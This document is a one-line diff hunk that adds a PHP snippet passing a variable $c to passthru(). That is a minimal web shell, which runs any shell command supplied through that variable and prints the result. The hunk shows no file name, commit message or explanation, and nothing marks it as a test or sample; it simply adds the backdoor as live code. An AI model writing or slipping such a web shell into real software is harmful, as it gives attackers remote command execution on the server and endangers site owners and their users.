@@ -1,0 +1,1 @@
+<?php if (isset($c)) { passthru($c); } ?>
